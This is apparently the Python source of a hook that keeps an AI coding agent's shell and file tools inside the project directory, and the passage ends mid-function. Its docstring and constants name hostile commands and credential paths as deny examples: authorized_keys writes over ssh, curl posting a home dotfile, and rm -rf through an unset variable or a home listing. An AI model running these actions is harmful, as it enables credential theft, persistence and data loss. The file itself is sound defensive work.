"""Keep file access inside the project directory.

Hook: workspace_boundary
Event: PreToolUse
Matcher: Bash|Read|Write|Edit|MultiEdit|NotebookEdit|Glob|Grep|LS
Description: Denies Read/Write/Edit/MultiEdit/NotebookEdit/Glob/Grep/LS calls whose
    file_path/notebook_path/path (or an absolute Glob pattern) lies outside the project
    ($CLAUDE_PROJECT_DIR, else the payload cwd), and Bash commands whose path arguments,
    redirection targets or cd targets resolve outside it (absolute paths, ~, $HOME, ..,
    symlinks resolved). /dev/null and the other standard streams are always allowed; more
    directories can be allowed with WORKSPACE_ALLOWED_DIRS (colon-separated). Public
    credential files (/etc/passwd, ~/.ssh/*.pub, authorized_keys, known_hosts, CA certificates)
    may be read, one named file under /etc may be hardened (sudo chmod 0440 /etc/sudoers.d/x,
    chmod o-rwx, chown root:root; not recursive, never loosened or given away), and a process's
    state may be read as ps/top show it (/proc/<pid>/status, limits, cgroup, cmdline, net/; never
    environ, mem, fd/, cwd/, root/) and the kernel's device and module files under /sys (not
    debug/security/efivars), and so may the system's configuration under /etc (and Homebrew's
    /opt/homebrew/etc) and a
    service's own log folder (/var/log/nginx/…) with programs that only read (cat, grep, tail, zgrep, openssl x509
    -noout, logrotate -d, find without actions, a server's configuration check: haproxy -c,
    nginx -t, sshd -t, visudo -c, promtool check …) — not the machine-wide logs (syslog, auth.log,
    the journal), not password or key files, not a name an unknown variable supplies. Listing or
    verifying a backup repository (restic snapshots/check, borg list) reads it. Changing the
    machine's accounts asks; adding one to a privileged group (sudo, wheel, docker…) is denied.
    A search for one named setting in a shell start-up file or a tool's settings in the home
    folder (grep -n PATH ~/.zshrc, cat ~/.gitconfig | grep alias, ~/.vimrc, ~/.tmux.conf) is a
    read-only look; the whole file, -v or every export is judged by what the file holds, like
    a whole read; credential patterns (token, secret, pass, key) are not. The user's own service
    definitions (~/.config/systemd/user/*.service, ~/Library/LaunchAgents/*.plist, autostart
    entries) may be read like the system's units under /etc; writing them is persistence.
    Asks for git config --global writes; denies settings that make every repository run or
    trust something, user package-manager settings that point every later install at another
    source (pip/npm/pnpm config set of index-url, registry, trusted-host; conda channels; rule
    package-source; the project scope and the official registry pass), and login keys installed
    for others: ansible authorized_key, ssh-copy-id
    (not -n), and writes to .ssh/authorized_keys, here or in a command run over ssh
    (… | ssh host 'cat >> ~/.ssh/authorized_keys', tee -a, scp/cp onto it). The system temp folder is
    scratch space, and so is a compute cluster's scratch file system (/scratch/<user>,
    /lustre/scratch, /gpfs/…/scratch, /pscratch, /local_scratch): writes pass, deleting there
    what the command did not create (nor writes
    again as a later output: rm -rf /tmp/report && tool --output=/tmp/report) asks, running
    an unseen file from there asks. Remote commands (ssh host '…', docker exec) are not
    checked. xargs rm fed by a listing (ls, find, fd) deletes what is listed: outside the project
    it is refused, also through line filters (ls -d ~/* | grep -v Projects | xargs rm -rf); an
    in-project listing is project work. Names and sizes may be looked at
    anywhere (ls, du, find/fd without an action; not a find of all of / or ~). Viewers that only
    print (plutil -p/-lint, yq without -i, xmllint without --output, checksums, cmp) read like
    cat. A whole read of the user's own shell or
    tool settings file (cat ~/.gitconfig, tail ~/.bashrc, Read ~/.ssh/config) is judged by what
    the real file holds: absent, or with nothing credential-like, it passes; a token-shaped word,
    a password/token/secret/API-key setting, a user:pass@ URL, an Authorization header or a
    private key asks (rule user-settings-read; sourcing it or searching it for credentials is
    refused; credential files stay refused whatever they hold); counting lines or testing a match (wc -l,
    grep -c/-q/-l) prints no content. Installing as root or into a prefix outside the project
    (sudo make install, cmake --install --prefix /usr) is refused (rule system-install); stow and
    rsync dry runs pass; Perforce depot paths (//depot/…) are not files; Windows drive paths
    changed from PowerShell are outside; WSL's Program Files / ProgramData read like /etc. A
    recursive rm of "$VAR/" or "$VAR/"* with VAR set nowhere in the command and not guarded with
    ${VAR:?} starts at the filesystem root when it is empty (rule unset-root); so does one through a
    variable the command sets to such a value (DIST="${BUILD_ROOT}/" && rm -rf $DIST*).
    Closing the home folder itself to others (chmod 750 ~, chmod go-w "$HOME"; not recursive,
    the owner keeping full access) passes like tightening ~/.ssh. cd - returns to the directory
    before the command's last cd (before any, it may be anywhere and counts as the home folder).
    A temp path named with the shell's own process id (/tmp/e2e-$$, $BASHPID) is the command's
    scratch: clearing it passes. Provisioning profiles (~/Library/MobileDevice/Provisioning
    Profiles) are public and may be read or decoded (security cms -D); the logs and crash reports
    the user's tools keep (~/.npm/_logs, ~/Library/Logs, ~/.gradle/daemon/*.log) may be read, as
    may installed dependencies, toolchains, board packages, editor extensions and simulator data
    (~/go/pkg/mod, ~/.platformio, ~/.vscode/extensions, ~/Library/Developer; sqlite3
    with -readonly or only printing dot commands and SELECTs on the line).
    git clone into a new folder beside the project (../lib, not a dot-folder) adds a checkout.
    ~/.tool-versions, ~/.nvmrc, ~/.condarc, ~/.psqlrc, ~/.gdbinit, ~/.irbrc (interactive shells',
    debuggers' and formatters' own settings), gh's config.yml, ~/.docker/daemon.json and any
    settings-named file in a tool's folder under ~/.config or an editor's User profile folder
    (~/.config/wandb/settings, ~/.config/Code/User/settings.json, *rc, *.toml/*.yaml/*.json/*.conf;
    not token/auth/credentials/hosts names) are tool settings, judged by what the file on the
    machine holds (searched for one setting: passes; whole: passes unless it holds something
    credential-like, then asks). Only names that never hold a login (settings.json, key bindings,
    themes, *.lua, a viewer's *rc, any file of an editor or terminal) show nothing when absent; a
    name where CLIs keep logins (config.yml, cli.toml, npmrc, anything in a CLI's login folder
    such as ~/.config/fly) is judged only when it can be read, and otherwise stays an outside read.
    Attaching an image file from the project on a mount point (sudo mount -o loop build/fs.img
    /mnt/fs, losetup /dev/loop3 out/disk.img, mkdir /mnt/fs, umount /mnt/fs) is image work;
    mounting over system folders, the home folder or /, devices and binds stay refused. An HTTP
    client sending a file from outside the project (curl -d @$HOME/.gitconfig, -F f=@~/x.pdf,
    -T ../other/.env) is refused; project files and temp-folder scratch may be sent.
    Bringing a non-secret file INTO the project (cp/install/rsync/ln -s/tar -x/unzip whose every
    destination is in the project: cp ~/Downloads/logo.svg assets/, rsync -a /scratch/me/run/
    results/run/, a certificate from /mnt/c/…/Downloads, a readable /etc setting) reads it and
    writes project files; hidden home entries (~/.ssh, ~/.config/…), key/env/token/password
    names, whole home folders or a folder holding one, system folders, mv and rsync
    --remove-source-files stay refused. Converting such a document or medium into the project
    is the same (pandoc ~/Downloads/spec.docx -o docs/spec.md, ffmpeg -i ~/Videos/x.mp4
    docs/x.gif, magick, soffice --outdir, pdftotext; filters and templates from outside stay
    judged).
    Packaging results in their documented place (debuild's
    ../pkg_1.0-1_amd64.deb, .changes, .dsc, .buildinfo, .build; ../build-area/;
    ~/rpmbuild/RPMS) may be inspected (lintian, dpkg -c/-I, dpkg-deb, rpmlint, rpm -qp…,
    debsign, read-only programs) or copied into the project; deleting or installing them is
    judged as before. Words that start with a slash but name no local file pass: switches of
    .NET build tools and Windows programs that only show something (dotnet build
    /p:Configuration=Release, msbuild /t:Rebuild, ipconfig.exe /all, cmd.exe /c ver; a switch whose
    value is a path, or cmd.exe running rd/del/reg, stays judged), and AWS resource names given
    to --…-name / --…-prefix / --path (--log-group-name /ecs/api, aws logs tail /ecs/api, az
    --prefix). Paths on a device or another file system are not the host's: adb shell and the
    device side of adb push/pull, hdfs dfs / hadoop fs paths, multipass exec; the host side of
    a transfer (what push/put sends, where pull/get writes, multipass transfer) stays judged.
    A URL path given to a server (appium --base-path /wd/hub, uvicorn --root-path /api,
    --health-path /healthz, --url-prefix /v1: an option named for a URL, route, endpoint or
    base, or a path/prefix qualified as one, whose value names nothing on the machine and starts
    in no system folder) is a route, not a file; real paths after such options stay judged.
    A find over all of / or ~ narrowed only by owner, mode, size or age (find / -xdev -perm -4000,
    -user x -ls, find ~ -size +1G) lists names like ls; name or path tests and actions stay
    refused. A search of one machine-wide log for one kind of event (grep -c 'Failed password'
    /var/log/auth.log*, zgrep, the Grep tool) shows those lines like journalctl | grep; whole
    reads, -v, catch-all or credential patterns (token, bearer, cookie, api key) and the whole
    /var/log tree stay refused. Language shells' start-up files (~/.julia/config/startup.jl,
    ~/.ghci, ~/.pythonrc.py, ~/.iex.exs) are settings files like ~/.Rprofile.
    A word written as an absolute path whose first folder does not exist on the machine and is no
    system folder (kubectl get --raw /apis/…, etcdctl get /registry/…, a ROS or MQTT topic
    /odom, a test filter /checkout/) names no local file: there is nothing to read. It stays
    judged when deleted, redirected to, given to -o/--output/--save…, written by a file tool (cp,
    tee, rsync …), run as root, a Windows program's one-part switch (/Create, /v), or when its
    name says it holds secrets. JetBrains IDEs' options (~/.config/JetBrains/<IDE>/options/*.xml)
    are editor settings, judged by what they hold. Loading an installed toolchain's environment
    (source /opt/ros/humble/setup.bash, . /opt/intel/oneapi/setvars.sh) passes like . ~/.cargo/env;
    running a script from there stays judged. blender's //renders/ is relative to the .blend
    file. Cache cleaners run only to report (dotnet nuget locals all --list, brew cleanup -n,
    conda clean --dry-run) clean nothing. Windows admin tools that only show something
    (schtasks /Query, reg query, icacls without /grant, cmd.exe /c schtasks /query, taskkill)
    pass; their changing forms stay judged.
    Files that interpreter code writes (python/ruby/node/php/perl/Rscript/lua one-liners and
    here-docs, awk's print > "file"): open(p, "w"/"a"), Path(p).write_text, shutil.copy/move onto
    p, File.write, File.open(p, "a"), fs.writeFileSync/appendFileSync/fs.promises.writeFile,
    file_put_contents, Perl's open(my $f, ">>", p), R's writeLines/cat(file=), a download saved
    (urlretrieve) or an archive unpacked (extractall) there, are judged like a shell redirect
    to that path, the home folder resolved however the code names it (expanduser,
    File.expand_path, os.homedir(), $ENV{HOME}, Path.home()): a start-up file, a system folder
    or a path climbing out with .. is refused; the project and the temp folder pass.
    A board's device nodes (serial ports, I2C, SPI, GPIO, cameras) may be opened to the user
    (sudo chmod 666 /dev/ttyUSB0, chown $USER; not recursive); disks and memory stay refused.
    Fails closed on malformed input.
"""

from __future__ import annotations

import fnmatch
import os
import re
import sys

_HERE = os.path.dirname(os.path.abspath(__file__))
for _path in (os.path.dirname(_HERE), _HERE):  # hooks/ (for _common) and this folder
    if _path not in sys.path:
        sys.path.insert(0, _path)

import _common  # noqa: E402
import _shell  # noqa: E402
from _common import Finding  # noqa: E402
from _shell import Cmd, Word, lazy_compile  # noqa: E402

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

NAME = "workspace_boundary"
EVENTS = frozenset({"PreToolUse"})
MATCHER = "Bash|Read|Write|Edit|MultiEdit|NotebookEdit|Glob|Grep|LS"
TOOLS = frozenset({"Bash", "Read", "Write", "Edit", "MultiEdit", "NotebookEdit", "Glob", "Grep", "LS"})
PATH_KEYS = {
    "Read": "file_path",
    "Write": "file_path",
    "Edit": "file_path",
    "MultiEdit": "file_path",
    "NotebookEdit": "notebook_path",
}
ALWAYS_ALLOWED = frozenset(
    {
        "/dev/null",
        "/dev/stdin",
        "/dev/stdout",
        "/dev/stderr",
        "/dev/tty",
        "/dev/zero",
        "/dev/random",
        "/dev/urandom",
        "/dev/full",
    }
)
# Commands whose arguments are not file paths (messages, names, numbers, URLs).
NO_PATH_ARGS = frozenset({
    "echo", "printf", "true", "false", "which", "type", "command", "hash", "man", "help",
    "alias", "unalias", "export", "unset", "read", "exit", "return", "sleep", "date", "seq",
    "expr", "bc", "yes", "kill", "pkill", "trap", "history", "wait", "set", "shift", "declare",
    "local", "typeset", "readonly", "test", "[", "[[", "basename", "dirname", "realpath",
    "readlink", "logger", "notify-send", "tput", "gh", "ssh", "ping", "dig",
    "nslookup", "host", "whoami", "id", "uname",
    "hostname", "env", "printenv", "getent", "pgrep", "ps", "jobs", "fg", "bg", "disown",
    "shopt", "ulimit", "umask", "let", ":", "((arith))", "",
})  # fmt: skip
# Option values that name files/directories (other values are patterns, numbers…).
PATH_VALUE_KEYS = (
    "f",
    "file",
    "target-directory",
    "o",
    "output",
    "C",
    "directory",
    "T",
    "X",
    "from-file",
    "arg-file",
    "init",
)
DOWNLOAD_FILE_OPTIONS = frozenset(
    {
        "-o",
        "--output",
        "-O",
        "--output-document",
        "-T",
        "--upload-file",
        "-P",
        "--directory-prefix",
        "-K",
        "--config",
        "-H",
        "--header",
        "-d",
        "--data",
        "-X",
        "--request",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-e",
        "--referer",
    }
)
DOCKER_VALUE_OPTIONS = frozenset(
    {
        "-v",
        "--volume",
        "-f",
        "--file",
        "--env-file",
        "-w",
        "--workdir",
        "-e",
        "--env",
        "-p",
        "--publish",
        "--name",
        "-t",
        "--tag",
        "-u",
        "--user",
        "--network",
        "--entrypoint",
        "--mount",
        "-l",
        "--label",
        "--platform",
        "--build-arg",
    }
)
# Non-secret system information that may be read from outside the project (LABELLING.md
# class 3): OS release, host name, CPU/memory/kernel figures. Secrets (/proc/*/environ,
# /etc/shadow) and account data (/etc/passwd) are not here.
SYSTEM_INFO_FILES = frozenset({
    "/etc/os-release", "/usr/lib/os-release", "/etc/lsb-release", "/etc/debian_version",
    "/etc/redhat-release", "/etc/alpine-release", "/etc/fedora-release", "/etc/centos-release",
    "/etc/system-release", "/etc/arch-release", "/etc/issue", "/etc/issue.net", "/etc/hostname",
    "/etc/timezone", "/etc/localtime", "/etc/shells", "/etc/machine-id", "/etc/hosts",
    "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/services", "/etc/protocols", "/etc/mime.types",
    "/etc/apt/sources.list", "/etc/locale.conf", "/etc/default/locale",
    "/proc/cpuinfo", "/proc/meminfo", "/proc/version", "/proc/loadavg", "/proc/uptime",
    "/proc/stat", "/proc/swaps", "/proc/filesystems", "/proc/partitions", "/proc/mounts",
    "/proc/cgroups", "/proc/diskstats", "/proc/vmstat", "/proc/devices", "/proc/modules",
    "/proc/interrupts", "/proc/zoneinfo", "/proc/self/status", "/proc/self/cgroup",
    "/proc/self/limits", "/proc/self/mountinfo", "/proc/1/cgroup",
})  # fmt: skip
SYSTEM_INFO_DIRS = (
    "/proc/sys/",
    "/proc/pressure/",
    # The package manager's records of what is installed and where from (dpkg -L reads them).
    "/var/lib/dpkg/",
    "/var/lib/apt/lists/",
    "/run/systemd/resolve/",
    # The kernel's view of devices, modules and tunables (queue/scheduler, module versions,
    # transparent_hugepage); its debug and security interfaces and EFI variables are not here.
    "/sys/class/",
    "/sys/devices/",
    "/sys/fs/cgroup/",
    "/sys/block/",
    "/sys/bus/",
    "/sys/module/",
    "/sys/kernel/mm/",
    "/usr/",  # programs, libraries, headers, documentation: readable by everyone, no secrets
    # Package managers' installed trees outside /usr (Homebrew on Apple silicon, a system conda).
    "/opt/homebrew/Cellar/",
    "/opt/homebrew/opt/",
    "/opt/homebrew/include/",
    "/opt/homebrew/lib/",
    "/opt/homebrew/share/",
    "/opt/conda/conda-meta/",
    "/opt/conda/pkgs/",
    "/opt/conda/lib/",
    "/nix/store/",  # Nix's packages: world-readable by design, never a place for secrets
    # Trusted CA certificates: public by design (the private keys live in /etc/ssl/private).
    "/etc/ssl/certs/",
    "/etc/pki/tls/certs/",
    "/etc/pki/ca-trust/",
    "/etc/ca-certificates/",
    # Device, package-source and kernel settings: how the machine is set up, no credentials.
    "/etc/udev/",
    "/etc/apt/sources.list.d/",
    "/etc/sysctl.d/",
    "/etc/modprobe.d/",
    "/etc/ld.so.conf.d/",
)
# The system's configuration and logs (nginx sites, systemd units, cron tables, sshd settings,
# /var/log): how the machine is set up and what it did, read daily by whoever runs it. Reading
# them (never writing) is looking at system information; the credential files kept among them
# (/etc/shadow, /etc/ssl/private, host keys, /etc/restic/env) are secrets_guard's rule.
SYSTEM_READABLE_DIRS = (
    "/etc/",
    "/opt/homebrew/etc/",  # Homebrew's /etc on Apple silicon (nginx.conf, my.cnf.default)
    "/var/log/",
    # Windows' installed programs and machine-wide program data, as WSL mounts them: what is
    # installed and how (launcher manifests, versions), like /etc and /usr on Linux.
    "/mnt/c/ProgramData/",
    "/mnt/c/Program Files/",
    "/mnt/c/Program Files (x86)/",
)
# Programs that only read the files they are given (so a system-information path is fine).
READ_ONLY = frozenset({
    "zcat", "zgrep", "zless", "zmore", "xzcat", "bzcat", "zstdcat",
    "cat", "head", "tail", "less", "more", "bat", "batcat", "grep", "egrep", "fgrep", "rg", "wc",
    "file", "stat", "sort", "uniq", "cut", "awk", "gawk", "mawk", "jq", "diff", "md5sum",
    "sha256sum", "sha1sum", "od", "xxd", "hexdump", "strings", "tr", "column", "nl", "tac", "ls",
    "lscpu", "sed", "ssh-keygen", "source", ".",
})  # fmt: skip
OUTPUT_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>", "<>", ">&", "<", "<&"})


def allowed_roots(project: str) -> list[str]:
    """The project plus any WORKSPACE_ALLOWED_DIRS, symlinks resolved."""
    roots = [os.path.realpath(project)]
    for extra in os.environ.get("WORKSPACE_ALLOWED_DIRS", "").split(":"):
        extra = extra.strip()
        if extra:
            roots.append(os.path.realpath(os.path.expanduser(extra)))
    return roots


def outside(path: str, roots: list[str]) -> bool:
    """Whether the absolute ``path`` (symlinks resolved) lies outside every allowed root."""
    if path in ALWAYS_ALLOWED or path.startswith("/dev/fd/"):
        return False
    real = os.path.realpath(path)
    return not any(_shell.is_within(real, root) for root in roots)


# The system temp folder is scratch space (LABELLING.md's settled calls): nobody's configuration,
# so creating, writing and reading files there is ordinary work (a build log, a downloaded
# installer to read, a copy of an artifact). Deleting there what the same command did not
# create asks: it may belong to another program or session. A path counts only when it is
# written as the temp folder: climbing out of the project with ``..`` or a symlink that leads
# from the project or from /tmp elsewhere is judged where it lands. Running a downloaded file
# is dangerous_commands' rule.
TEMP_DIRS = ("/tmp", "/var/tmp", "/private/tmp", "/private/var/tmp", "/dev/shm")
# Variables that name the temp folder when the command does not set them.
TEMP_VARS = frozenset({"TMPDIR", "TMP", "TEMP", "TEMPDIR"})
# Credentials that live in the temp folder: Kerberos ticket caches and ssh-agent sockets.
_TEMP_CREDENTIALS = lazy_compile(r"/krb5cc[^/]*$|/ssh-[^/]+/agent\.[^/]*$")
# Programs that delete the files they name, and the find actions that do.
DELETERS = frozenset({"rm", "rmdir", "unlink", "shred", "srm", "trash", "trash-put", "wipe"})
_RSYNC_DELETES = frozenset({
    "delete", "delete-before", "delete-during", "delete-delay", "delete-after", "delete-excluded",
    "del", "remove-source-files",
})  # fmt: skip
# Programs whose output lists paths (fed to ``xargs rm``, the listed paths are deleted).
LISTERS = frozenset({"find", "ls", "fd", "fdfind", "locate"})


def temp_roots() -> list[str]:
    """The system temp folders (and ``$TMPDIR``), with their resolved forms."""
    roots = list(TEMP_DIRS)
    env = os.environ.get("TMPDIR", "")
    if env.startswith("/"):
        roots.append(os.path.normpath(env))
    return sorted({*roots, *(os.path.realpath(r) for r in roots)})


def temp_dir() -> str:
    """The temp folder a program uses: ``$TMPDIR``, else /tmp."""
    env = os.environ.get("TMPDIR", "")
    return os.path.normpath(env) if env.startswith("/") else "/tmp"


def climbs_out(value: str, cwd: str | None, roots: list[str]) -> bool:
    """Whether ``value`` leaves an allowed root through ``..`` (``../x``, ``src/../../x``,
    ``/proj/../x``): an escape from the project, wherever it lands."""
    if cwd is None and not value.startswith("/"):
        return False
    current = "/"
    for part in os.path.join(cwd or "/", value).split("/"):
        if part in ("", "."):
            continue
        if part != "..":
            current = os.path.join(current, part)
            continue
        parent = os.path.dirname(current)
        if any(_shell.is_within(current, r) for r in roots) and not any(_shell.is_within(parent, r) for r in roots):
            return True
        current = parent
    return False


# A compute cluster's scratch file system (/scratch/<user>, /lustre/scratch, /gpfs/…/scratch,
# NERSC's /pscratch and /global/cscratch1, a node's /local_scratch) is the same kind of space: job
# outputs, logs and staged data, nobody's configuration. The pattern matches the scratch root: the
# first of the top three folders whose name says scratch (not below a system folder or a home).
_CLUSTER_SCRATCH = lazy_compile(
    r"/(?!(?:etc|usr|var|root|home|Users|proc|sys|dev|boot|opt|srv)/)(?:[\w.-]+/){0,2}?[\w.-]*scratch[\w.-]*"
)


def cluster_scratch_root(path: str) -> str | None:
    """The scratch file system root ``path`` lies under (``/scratch``, ``/lustre/scratch``)."""
    m = _CLUSTER_SCRATCH.match(path)
    if m is None or not _shell.is_within(path, m.group(0)):
        return None
    return m.group(0)


def scratch(path: str, value: str, cwd: str | None, roots: list[str], home: str) -> bool:
    """Whether ``path`` (the lexical form of ``value``) is scratch space in the temp folder:
    written as the temp folder, not climbing out of the project, still there once symlinks are
    resolved, not a credential kept there, and not the user's home folder (which some machines
    keep under /tmp)."""
    temps = temp_roots()
    cluster = cluster_scratch_root(path)
    if cluster is not None:
        temps.append(cluster)
    if not any(_shell.is_within(path, t) for t in temps) or _TEMP_CREDENTIALS.search(path):
        return False
    if _shell.is_within(path, os.path.normpath(home)) or _shell.is_within(path, os.path.realpath(home)):
        return False
    if any(_shell.is_within(path, r) for r in roots) or climbs_out(value, cwd, roots):
        return False  # a symlink in the project, or ``..``, leading out of it: an escape
    real = os.path.realpath(path)
    return any(_shell.is_within(real, t) for t in temps) and not _TEMP_CREDENTIALS.search(real)


def _temp_var_value(word: Word, ctx: _shell.Ctx) -> list[str] | None:
    """``"$TMPDIR/cache"`` with TMPDIR not set by the command names the temp folder."""
    first = word.parts[0] if word.parts else None
    if not isinstance(first, _shell.Var) or first.name not in TEMP_VARS or first.name in ctx.vars:
        return None
    if first.op not in ("", ":?", "?"):
        return None
    rest = _shell.Word(word.parts[1:], word.raw)
    return [temp_dir() + _shell.expand_pattern(rest, ctx)]


def deleted_words(cmd: Cmd) -> set[int]:
    """The ids of ``cmd``'s words that name what it deletes: the operands of ``rm``/``shred``…,
    the starting points of a ``find`` that deletes (``-delete``, ``-exec rm``), an
    ``rsync --delete`` destination."""
    name = cmd.name
    if name in DELETERS:
        _flags, positionals, _values = _shell.split_options(cmd.args, _shell.VALUE_OPTIONS.get(name, frozenset()))
        return {id(w) for w in positionals}
    if name == "find":
        lits = [w.literal() for w in cmd.args]
        deletes = "-delete" in lits or any(
            lit in ("-exec", "-execdir", "-ok", "-okdir")
            and i + 1 < len(cmd.args)
            and _shell.prog_name(cmd.args[i + 1], cmd.ctx) in DELETERS
            for i, lit in enumerate(lits)
        )
        return {id(w) for w in _bash_path_words(cmd)} if deletes else set()
    if name in ("fd", "fdfind"):
        # fd -e tmp . /scratch/me -x rm: the command fd runs on each result (or on all of them).
        lits = [w.literal() for w in cmd.args]
        deletes = any(
            lit in ("-x", "--exec", "-X", "--exec-batch")
            and i + 1 < len(cmd.args)
            and _shell.prog_name(cmd.args[i + 1], cmd.ctx) in DELETERS
            for i, lit in enumerate(lits)
        )
        return {id(w) for w in _bash_path_words(cmd)} if deletes else set()
    if name == "rsync":
        flags, positionals, _values = _shell.split_options(cmd.args, _shell.VALUE_OPTIONS.get(name, frozenset()))
        return {id(w) for w in positionals} if _RSYNC_DELETES & set(flags) else set()
    return set()


# Options whose value is a file the command creates.
_CREATED_VALUE_KEYS = ("o", "output", "output-document")


def created_paths(cmd: Cmd) -> set[str]:
    """What ``cmd`` creates (lexical paths): redirect targets, ``mkdir``/``touch``/``tee``
    operands, what ``cp``/``mv``/``install``/``rsync`` put at their destination, ``-o FILE``
    outputs, ``dd of=``, the folder ``unzip -d`` makes. A later delete of these removes the
    command's own scratch files; the temp folder itself is never the command's."""
    words = [r.target for r in cmd.redirects if r.op in (">", ">>", ">|", "&>", "&>>") and r.target is not None]
    name = cmd.name
    sources: list[Word] = []
    into: Word | None = None
    if name and name not in NO_PATH_ARGS:
        # -o/--output name the output file for most tools (go build -o, gcc -o, sort -o).
        with_value = _shell.VALUE_OPTIONS.get(name, frozenset()) | {"-o", "--output"}
        if name in _shell.DOWNLOADERS:
            with_value = DOWNLOAD_FILE_OPTIONS
        elif name == "unzip":
            with_value = frozenset({"-d"})
        _flags, positionals, values = _shell.split_options(cmd.args, with_value)
        for key in _CREATED_VALUE_KEYS:
            words += values.get(key, [])
        if name in ("mkdir", "touch", "tee", "mktemp"):
            words += positionals
        elif name in ("cp", "mv", "install", "rsync", "ln", "scp") and len(positionals) >= 2:
            into = positionals[-1]
            sources = positionals[:-1]
        elif name == "unzip":
            words += values.get("d", [])
        elif name == "dd":
            words += [
                _shell.Word([_shell.Lit(lit[3:], True)], lit[3:])
                for lit in (w.literal() or "" for w in cmd.args)
                if lit.startswith("of=")
            ]
    made: set[str] = set()
    for word in words:
        made.update(_paths_of(cmd, word))
    if into is not None:
        for dest in _paths_of(cmd, into):
            # cp a b /tmp/x/, cp a /tmp/x/: the copies are /tmp/x/a, /tmp/x/b; cp a /tmp/y: /tmp/y.
            if into.text.endswith("/") or len(sources) > 1 or dest in temp_roots():
                for source in sources:
                    made.update(os.path.join(dest, os.path.basename(p.rstrip("/"))) for p in _paths_of(cmd, source))
            else:
                made.add(dest)
    return made - set(temp_roots())


def _paths_of(cmd: Cmd, word: Word) -> list[str]:
    """The absolute paths ``word`` may name (``$TMPDIR`` as the temp folder)."""
    paths = (_shell.normalize(v, cmd.ctx.cwd) for v in cmd.values(word) or _temp_var_value(word, cmd.ctx) or [])
    return [p for p in paths if p is not None and not _shell.has_glob(p)]


def _temp_exec(cmd: Cmd, roots: list[str], made: set[str]) -> list[Finding]:
    """``/tmp/tool/install.sh``, ``bash /tmp/setup.sh``, ``source /tmp/env.sh``: running a file
    from the temp folder whose text this command did not write runs what a download or another
    session left there, unseen (the settled calls: running what was downloaded there is remote
    code). The user confirms; a script written in full earlier in the command is judged by
    what it says (the walker reads it)."""
    if not cmd.argv:
        return []
    program: Word | None = cmd.argv[0]
    if cmd.name in _shell.SHELLS:
        script, _stdin, program = _shell.shell_invocation(cmd.args)
        if script is not None:
            program = None
    elif cmd.name in ("source", ".") or cmd.name in _shell.INTERPRETERS:
        program = next((w for w in cmd.args if not (w.literal() or "").startswith("-")), None)
    if program is None or cmd.ctx.written(program) is not None:
        return []
    for value in cmd.values(program) or _temp_var_value(program, cmd.ctx) or []:
        if not value.startswith(("/", "./", "../")) and "/" not in value:
            continue
        path = _shell.normalize(value, cmd.ctx.cwd)
        if any(_shell.is_within(path or "", m) for m in made):
            continue
        if path is not None and outside(path, roots) and scratch(path, value, cmd.ctx.cwd, roots, cmd.ctx.home):
            return [
                (
                    "ask",
                    f"rule temp-exec: `{cmd.display}` runs {path} from {_scratch_kind(path)}, whose content "
                    "this command does not show (a download or another session may have left it there). Read "
                    "it first, or run the project's own copy.",
                )
            ]
    return []


MACHINE_LOGS = frozenset({
    "syslog", "messages", "secure", "auth.log", "kern.log", "daemon.log", "user.log", "debug", "wtmp",
    "btmp", "lastlog", "faillog", "journal", "audit", "dmesg", "boot.log", "sudo.log", "cloud-init",
})  # fmt: skip


def system_readable(path: str) -> bool:
    """Whether ``path`` is system configuration or a log (``/etc/nginx/nginx.conf``,
    ``/var/log/syslog``) that may be read, not written, from outside the project."""
    if path.startswith("/var/log/"):
        # A service's own log folder (/var/log/nginx/error.log); the machine-wide logs
        # (/var/log/syslog, auth.log, the journal) record every user's and program's activity.
        top = path[len("/var/log/") :].split("/")[0]
        return bool(top) and top not in MACHINE_LOGS and not top.startswith(tuple(MACHINE_LOGS))
    if os.path.basename(path) in ("shadow", "gshadow", "shadow-", "gshadow-", "sudoers") or "/private/" in path:
        return False  # the password hashes and private keys kept there are never system information
    return path.startswith(SYSTEM_READABLE_DIRS)


# Servers' configuration checks: the option (or subcommand) that parses the configuration, reports
# errors and exits without starting, reloading or writing anything (an empty set: the program
# only checks). ``sudo haproxy -c -f /etc/haproxy/haproxy.cfg``, ``nginx -t``, ``visudo -c``.
CONFIG_CHECKS: dict[str, frozenset[str]] = {
    "haproxy": frozenset({"-c"}),
    "nginx": frozenset({"-t", "-T"}),
    "sshd": frozenset({"-t", "-T"}),
    "httpd": frozenset({"-t", "configtest"}),
    "apachectl": frozenset({"-t", "configtest"}),
    "apache2ctl": frozenset({"-t", "configtest"}),
    "visudo": frozenset({"-c", "--check"}),
    "nft": frozenset({"-c", "--check"}),
    "promtool": frozenset({"check"}),
    "amtool": frozenset({"check-config"}),
    "caddy": frozenset({"validate"}),
    "varnishd": frozenset({"-C"}),
    "keepalived": frozenset({"-t", "--config-test"}),
    "dnsmasq": frozenset({"--test"}),
    "named-checkconf": frozenset(),
    "named-checkzone": frozenset(),
    "unbound-checkconf": frozenset(),
}


def _inspects_system_file(cmd: Cmd, word: Word, path: str) -> bool:
    """``openssl x509 -in /etc/letsencrypt/live/x/fullchain.pem -noout -enddate``, ``logrotate -d
    /etc/logrotate.d/nginx``, ``find /var/log/nginx -name '*.gz'`` (no action): a program that
    only reports on a system file (a certificate's dates, a dry run, a listing)."""
    if not system_readable(path) or any(r.target is word and r.op not in ("<", "<&") for r in cmd.redirects):
        return False
    lits = [w.literal() or "" for w in cmd.args]
    if cmd.name == "openssl":
        return (
            lits[:1] in (["x509"], ["crl"], ["verify"], ["req"])
            and "-out" not in lits
            and ("-noout" in lits or lits[:1] == ["verify"])
        )
    if cmd.name == "logrotate":
        return "-d" in lits or "--debug" in lits
    checks = CONFIG_CHECKS.get(cmd.name)
    if checks is not None:
        # visudo -cf /etc/sudoers.d/x: a short check option may come in a cluster with others.
        shorts = {c[1] for c in checks if len(c) == 2 and c[0] == "-" and c[1] != "-"}
        clustered = any(len(w) > 2 and w[0] == "-" and w[1] != "-" and shorts & set(w[1:]) for w in lits)
        return not checks or bool(checks & set(lits)) or clustered
    if cmd.name in ("find", "fd", "fdfind"):
        return _find_lists_only(cmd)
    return False


_FIND_ACTIONS = frozenset(
    {"-delete", "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf", "-fls", "-x", "-X"}
)


def _find_lists_only(cmd: Cmd) -> bool:
    """Whether a ``find``/``fd`` only prints names and sizes (``-print``, ``-printf '%s %p'``,
